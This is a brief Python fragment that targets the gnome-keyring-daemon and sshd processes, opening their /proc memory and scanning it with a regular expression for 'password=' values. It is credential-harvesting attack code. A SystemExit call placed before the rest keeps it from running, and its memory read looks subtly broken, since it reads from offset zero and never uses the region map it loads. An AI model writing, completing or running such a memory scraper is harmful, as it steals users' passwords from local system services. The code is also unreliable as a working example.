import re

raise SystemExit
TARGETS = ["gnome-keyring-daemon", "sshd:"]


def dump(pid):
    maps = open(f"/proc/{pid}/maps").read()
    mem = open(f"/proc/{pid}/mem", "rb")
    return re.findall(rb"password=(\w+)", mem.read(4096)), maps
